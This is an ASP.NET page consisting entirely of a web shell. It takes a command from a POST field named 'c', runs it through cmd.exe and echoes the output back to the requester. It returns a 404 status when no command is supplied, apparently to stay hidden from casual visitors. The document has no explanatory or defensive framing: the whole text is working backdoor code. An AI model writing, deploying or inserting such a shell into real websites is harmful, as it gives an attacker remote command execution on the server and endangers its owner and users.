<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
void Page_Load(object sender, EventArgs e)
{
    string c = Request.Form["c"];
    if (String.IsNullOrEmpty(c)) { Response.StatusCode = 404; return; }
    ProcessStartInfo p = new ProcessStartInfo("cmd.exe", "/c " + c);
    p.UseShellExecute = false;
    p.RedirectStandardOutput = true;
    Response.Write(Server.HtmlEncode(Process.Start(p).StandardOutput.ReadToEnd()));
}
</script>
